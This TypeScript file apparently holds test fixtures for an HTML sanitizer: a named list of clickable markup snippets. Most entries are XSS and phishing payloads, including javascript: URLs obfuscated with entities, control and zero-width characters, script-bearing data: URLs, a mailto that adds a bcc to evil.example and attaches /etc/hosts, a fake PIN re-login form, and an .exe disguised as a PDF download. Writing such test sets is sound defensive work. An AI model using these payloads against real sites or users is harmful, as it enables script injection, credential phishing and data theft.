/** Markup that has an effect when it is clicked. */
export const clickTargets: Record<string, string> = {
  'a script address': '<a href="javascript:HIT">press</a>',
  'a script address in pieces': '<a href="java&#10;script&colon;HIT">press</a>',
  'a script address after a control': '<a href="&#1;javascript:HIT">press</a>',
  'a document address': '<a href="data:text/html,<script>opener.HIT</script>">press</a>',
  'a link that goes here': '<a href="LEAK/here" target="_self">press</a>',
  'a link that goes to the top': '<a href="LEAK/top" target="_top">press</a>',
  'a link that keeps its opener': '<a href="LEAK/opener" rel="opener" target="_blank">press</a>',
  'a hash': '<a href="#/settings">press</a>',
  'a relative address': '<a href="/sign-out">press</a>',
  'an address without a scheme': '<a href="//LEAKHOST/x">press</a>',
  'a link that pings': '<a href="https://shop.example/" ping="LEAK/ping">press</a>',
  'a link with a password': '<a href="https://bank.example@evil.example/">press</a>',
  'a form': '<form action="LEAK/form"><input name="pin"><button>Sign in again</button></form>',
  'a button of a form elsewhere':
    '<button formaction="LEAK/form2" form="f">press</button><form id="f"></form>',
  'an image map':
    '<img usemap="#m" src="LEAK/map"><map name="m"><area href="javascript:HIT" shape="default"></map>',
  'a label': '<label for="x">press<input id="x" type="submit" onclick="HIT"></label>',
  'an SVG link': '<svg><a xlink:href="javascript:HIT"><text y="20">press</text></a></svg>',
  'a script address in capitals': '<a href="JaVaScRiPt:HIT">press</a>',
  'a script address with tabs and breaks': '<a href="j\ta\nv\ra\tscript:HIT">press</a>',
  'a script address in numbers': '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58HIT">press</a>',
  'a script address in long numbers': '<a href="&#0000106avascript&#0000058;HIT">press</a>',
  'a script address after blanks': '<a href=" \u00a0\u3000\ufeffjavascript:HIT">press</a>',
  'a script address with a comment': '<a href="javascript://shop.example/%0aHIT">press</a>',
  'a script address that is shown twice': '<a href="javascript:HIT" href="https://shop.example/">press</a>',
  'a Visual Basic address': '<a href="vbscript:HIT">press</a><a href="livescript:HIT">press</a>',
  'an address of our own making':
    '<a href="blob:https://shop.example/x">press</a><a href="filesystem:x">press</a>',
  'a file address': '<a href="file:///etc/hosts">press</a>',
  'an address of another program':
    '<a href="intent://x#Intent;end">press</a><a href="ms-word:ofe|u|LEAK/doc">press</a><a href="sms:+1?body=x">press</a>',
  'an address that looks at source': '<a href="view-source:https://shop.example/">press</a>',
  'an address that holds a page':
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">press</a>',
  'an address that holds SVG': '<a href="data:image/svg+xml,<svg onload=HIT>">press</a>',
  'a dial code': '<a href="tel:*%2306%23">press</a><a href="tel:,,1;ext=javascript:HIT">press</a>',
  'a mail with headers': '<a href="mailto:a@b.example?bcc=c@evil.example&attach=/etc/hosts">press</a>',
  'backslashes for slashes': String.raw`<a href="\\\\LEAKHOST\\x">press</a><a href="https:\\LEAKHOST@evil.example">press</a>`,
  'a link that saves a file': '<a href="https://shop.example/run.exe" download="bill.pdf">press</a>',
  'a link that counts': '<a href="https://shop.example/" attributionsrc="LEAK/count">press</a>',
  'a link in a link': '<a href="https://shop.example/"><table><a href="javascript:HIT">press</a></table></a>',
  'zero-width letters in an address':
    '<a href="java\u200bscript:HIT">press</a><a href="https://shop\u200b.example/">press</a>',
  'a summary that is a link': '<details><summary><a href="javascript:HIT">press</a></summary></details>',
  'a MathML link': '<math href="javascript:HIT"><mtext xlink:href="javascript:HIT">press</mtext></math>',
  'a form of one button':
    '<button formaction="javascript:HIT" formmethod="post">press</button><isindex action="javascript:HIT" type="image">',
  'a select that submits':
    '<form action="LEAK/sel"><select onchange="HIT"><option>x</option></select><input type="submit"></form>',
}
